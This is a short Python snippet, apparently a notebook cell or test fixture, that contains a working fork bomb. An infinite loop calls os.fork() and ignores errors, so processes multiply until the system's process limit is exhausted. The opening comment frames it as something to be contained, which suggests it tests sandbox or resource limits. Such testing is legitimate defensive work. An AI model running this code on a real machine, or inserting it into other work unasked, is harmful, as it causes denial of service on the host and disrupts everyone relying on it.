# A fork loop: every process forks forever. It must be contained quickly and leave nothing behind.
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
